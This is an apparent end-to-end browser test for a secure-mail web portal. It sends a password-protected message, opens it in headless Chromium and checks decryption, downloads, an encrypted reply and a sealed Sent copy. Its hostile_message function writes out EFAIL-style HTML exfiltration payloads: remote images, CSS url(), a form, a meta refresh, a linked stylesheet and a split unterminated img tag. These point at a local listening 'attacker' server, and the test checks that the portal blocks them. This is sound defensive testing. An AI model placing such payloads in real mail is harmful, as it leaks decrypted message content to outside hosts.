"""The secure page end to end, in a real headless Chromium against the portal over TLS.

Must show 1: a message with an attachment goes in over SMTP (TLS) to an external
address without a key; the relay hands the notification to a test smarthost;
the link is taken from that mail and opened; a wrong password shows an error,
the right one the body; the downloaded attachment is byte-identical; the answer
lands in the sender's mailbox, encrypted, and opens with the sender's key. The
sender's own Sent copy is sealed under the same password: in the webmail she
types it (a wrong one is refused) to read the message and download the file.

Must show 5: the same message carries the EFAIL-style exfiltration patterns (a
remote image, CSS `url()` in a style attribute and a style sheet, a form, a
meta refresh, a `<link>` style sheet, and an `<img src="…` left unterminated in
one MIME part and closed in the next). Every request the browser makes goes to
the portal: none to any other host, counted from inside the browser and by a
listening "attacker" server.

Screenshots go to the test's tmp dir; with SEALGATE_SCREENSHOTS_DIR set (e.g.
docs/screenshots) the key ones are copied there for the README.
"""

from __future__ import annotations

import dataclasses
import email
import email.policy
import http.server
import os
import shutil
import smtplib
import ssl
import threading
from collections.abc import Iterator
from email.message import EmailMessage
from pathlib import Path
from typing import ClassVar

import pytest
from playwright.sync_api import Browser, FilePayload, Page, expect

from gateway import db
from gateway.pipeline import pgpmime
from gateway.relay import Relay
from gateway.runtime import Runtime
from gateway.smtp_server import SubmissionServer
from keystore import store as keystore
from tests.conftest import LoopThread
from tests.fakes.smarthost import FakeSmarthost, relay_settings_for
from tests.gateway.test_secure_page import folder, token_of
from webportal import create_app
from webportal.server import PortalServer

ALICE, CAROL = "alice@example.test", "carol@elsewhere.example"
PASSWORD = "Tulpe-Regen-42-Kiesel"
MARKER = "Axolotl-4be2-Quetzal"
ATTACHMENT = b"%PDF-1.4\n" + os.urandom(50_000) + b"\n%%EOF\n"
REPLY_FILE = b"signed \x00\x01\x02 contract " + os.urandom(2_000)
KEY_SHOTS = (
    "01-password.png",
    "02-wrong-password.png",
    "03-message.png",
    "05-sender-view.png",
    "06-sealed-sent-copy.png",
)


class CountingHandler(http.server.BaseHTTPRequestHandler):
    hits: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.hits.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_GET  # noqa: N815

    def log_message(self, *_args: object) -> None:
        return


@pytest.fixture
def attacker() -> Iterator[tuple[str, list[str]]]:
    """A listening server the hostile HTML points at; it records every request."""
    hits: list[str] = []
    handler = type("Handler", (CountingHandler,), {"hits": hits})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", hits
    server.shutdown()
    server.server_close()


def hostile_message(evil: str) -> bytes:
    """A normal-looking message whose HTML tries every way out of the page."""
    msg = EmailMessage()
    msg["From"] = f"Alice Example <{ALICE}>"
    msg["To"] = CAROL
    msg["Subject"] = "[encrypt] Vertrag und Unterlagen"
    msg["Message-ID"] = "<browser-secure-1@example.test>"
    msg["X-Sealgate-Password"] = PASSWORD
    msg.set_content(f"Hallo Carol,\nanbei der Vertrag. {MARKER}\nGrüße, Alice\n")
    msg.add_alternative(
        f"""<html><head>
<meta http-equiv="refresh" content="0;url={evil}/refresh">
<link rel="stylesheet" href="{evil}/link.css">
<style>body {{ background: url({evil}/style-tag.png) }}</style>
</head><body>
<p>Hallo Carol,</p><p>anbei der Vertrag. <b>{MARKER}</b></p>
<img src="{evil}/remote-image.png" alt="logo">
<div style="background-image: url({evil}/style-attr.png)">Grüße, Alice</div>
<form action="{evil}/form" method="post"><input name="q" value="x">
<button type="submit">Weiter</button></form>
<p><a href="https://example.org/info">Mehr Informationen</a></p>
<img src="{evil}/efail?""",
        subtype="html",
    )
    msg.add_attachment(
        '">\n<p>closing part of the EFAIL pattern</p>',
        subtype="html",
        disposition="inline",
    )
    msg.add_attachment(ATTACHMENT, maintype="application", subtype="pdf", filename="vertrag.pdf")
    return msg.as_bytes(policy=email.policy.SMTP)


@pytest.fixture
def portal(runtime: Runtime, mail_users: dict[str, str]) -> Iterator[PortalServer]:
    server = PortalServer(create_app(runtime), runtime.settings)
    server.start()
    yield server
    server.stop()


@pytest.fixture
def smtp(
    runtime: Runtime, portal: PortalServer, loop_thread: LoopThread
) -> Iterator[SubmissionServer]:
    """Submission whose notification links point at this portal (base_url from settings)."""
    linked = dataclasses.replace(
        runtime, settings=runtime.settings.replace(portal={"base_url": portal.url})
    )
    server = SubmissionServer(linked)
    loop_thread.run(server.start())
    yield server
    loop_thread.run(server.stop(grace=5))


def shoot(page: Page, folder_path: Path, name: str) -> None:
    page.screenshot(path=str(folder_path / name), full_page=True)


@pytest.mark.browser
@pytest.mark.slow
def test_secure_page_in_a_real_browser(
    chromium: Browser,
    portal: PortalServer,
    smtp: SubmissionServer,
    smarthost: FakeSmarthost,
    runtime: Runtime,
    mail_users: dict[str, str],
    client_ssl_context: ssl.SSLContext,
    loop_thread: LoopThread,
    attacker: tuple[str, list[str]],
    tmp_path: Path,
) -> None:
    evil, attacker_hits = attacker
    shots = tmp_path / "screenshots"
    shots.mkdir()

    # 1. Alice sends over SMTP with TLS; the relay delivers the notification.
    with smtplib.SMTP_SSL(
        "127.0.0.1", smtp.tls_port, context=client_ssl_context, timeout=60
    ) as client:
        client.login(ALICE, mail_users[ALICE])
        assert client.sendmail(ALICE, [CAROL], hostile_message(evil)) == {}
    relay = Relay(
        dataclasses.replace(runtime, settings=relay_settings_for(runtime.settings, smarthost))
    )
    loop_thread.run(relay.sweep())
    (notification,) = smarthost.wait_for(1)
    assert notification.rcpt_tos == (CAROL,) and notification.tls
    assert MARKER.encode() not in notification.content
    token = token_of(notification.content)
    link = f"{portal.url}/s/{token}"
    assert link in notification.content.decode()

    # 2. Carol opens the link in a browser.
    context = chromium.new_context(ignore_https_errors=True, locale="en-US", accept_downloads=True)
    requests: list[str] = []
    try:
        page = context.new_page()
        page.set_default_timeout(15_000)
        page.on("request", lambda request: requests.append(request.url))
        page.goto(link)
        expect(page.locator("h1")).to_have_text("Encrypted message")
        shoot(page, shots, "01-password.png")

        page.fill("#password", "not the password")
        page.click("button.primary")
        expect(page.locator("p.error")).to_contain_text("The password is wrong")
        expect(page.locator("body")).not_to_contain_text(MARKER)
        shoot(page, shots, "02-wrong-password.png")

        (cookie,) = context.cookies()
        assert cookie["name"] == "__Host-sealgate" and cookie["httpOnly"] and cookie["secure"]
        assert cookie["sameSite"] == "Lax"

        page.fill("#password", PASSWORD)
        page.click("button.primary")
        expect(page.locator("h1.subject")).to_have_text("Vertrag und Unterlagen")
        expect(page.locator(".html-body").first).to_contain_text(MARKER)
        expect(page.locator(".attachments")).to_contain_text("vertrag.pdf")
        shoot(page, shots, "03-message.png")
        html = page.content()
        for pattern in ("<img", "<form action", "http-equiv", "<style", "style=", evil):
            assert (
                pattern
                not in html.split('<article class="card secure-message">')[1].split("</article>")[0]
            ), pattern
        assert 'rel="noopener noreferrer"' in html

        with page.expect_download() as download_info:
            page.click("a[download]")
        download = download_info.value
        assert download.suggested_filename == "vertrag.pdf"
        assert Path(download.path()).read_bytes() == ATTACHMENT

        page.fill("#reply-text", "Unterschrieben zurück. Grüße, Carol")
        upload: FilePayload = {
            "name": "signed.pdf",
            "mimeType": "application/pdf",
            "buffer": REPLY_FILE,
        }
        page.set_input_files("#reply-files", files=[upload])
        page.click("text=Send encrypted answer")
        expect(page.locator("p.notice")).to_have_text("Your answer was sent, encrypted.")
        shoot(page, shots, "04-answer-sent.png")
    finally:
        context.close()

    # 5. Not one request left the portal: none counted by the browser, none arrived.
    others = [url for url in requests if not url.startswith(portal.url + "/")]
    assert others == [], others
    assert attacker_hits == []
    assert len(requests) >= 8  # the pages, style sheets, posts and the download

    # 3. The answer is in Alice's inbox, encrypted, and opens with Alice's key.
    (stored,) = folder(runtime, ALICE)
    assert stored.encrypted and b"Unterschrieben" not in stored.raw
    payload = pgpmime.encrypted_payload(stored.raw)
    assert payload is not None
    with db.read_only(runtime.sessions) as session:
        inner = keystore.decrypt_for(session, runtime.ring.get(), ALICE, payload).data
    answer = email.message_from_bytes(inner, policy=email.policy.default)
    outer = email.message_from_bytes(stored.raw, policy=email.policy.default)
    assert outer["In-Reply-To"] == "<browser-secure-1@example.test>"
    body = answer.get_body(preferencelist=("plain",))
    assert body is not None and "Unterschrieben zurück" in body.get_content()
    (attached,) = list(answer.iter_attachments())
    assert attached.get_payload(decode=True) == REPLY_FILE

    # 4. Alice sees in the portal that Carol opened the page and answered.
    sender = chromium.new_context(ignore_https_errors=True, locale="en-US")
    try:
        page = sender.new_page()
        page.set_default_timeout(15_000)
        page.goto(f"{portal.url}/login?next=/secure/sent")
        page.fill("#email", ALICE)
        page.fill("#password", "portal-" + mail_users[ALICE])
        page.click("button.primary")
        expect(page.locator("h1")).to_have_text("Secure-page messages")
        row = page.locator("td.recipient", has_text=CAROL).locator("xpath=..")
        expect(row.locator("td.state")).to_have_text("active")
        expect(row.locator("td.opened")).to_contain_text("answered 1×")
        shoot(page, shots, "05-sender-view.png")

        # 6. Her Sent copy is sealed under the same password: she types it to read it.
        (copy,) = folder(runtime, ALICE, "Sent")
        page.goto(f"{portal.url}/mail/{copy.id}")
        expect(page.locator("#sealed-password")).to_be_visible()
        expect(page.locator("body")).not_to_contain_text(MARKER)
        page.fill("#sealed-password", "Tulpe-Regen-42-falsch")
        page.click("form.sealed-unlock button")
        expect(page.locator("p.error")).to_have_text("The password is wrong.")
        page.fill("#sealed-password", PASSWORD)
        page.click("form.sealed-unlock button")
        expect(page.locator(".html-body").first).to_contain_text(MARKER)
        expect(page.locator(".signature-sealed")).to_be_visible()
        with page.expect_download() as sent_download:
            page.click(".attachments a >> text=vertrag.pdf")
        assert Path(sent_download.value.path()).read_bytes() == ATTACHMENT
        shoot(page, shots, "06-sealed-sent-copy.png")
    finally:
        sender.close()

    for name in ("01-password.png", "03-message.png", "04-answer-sent.png"):
        assert (shots / name).stat().st_size > 1000
    target = os.environ.get("SEALGATE_SCREENSHOTS_DIR")
    if target:
        Path(target).mkdir(parents=True, exist_ok=True)
        for name in KEY_SHOTS:
            shutil.copy2(shots / name, Path(target) / f"secure-page-{name}")
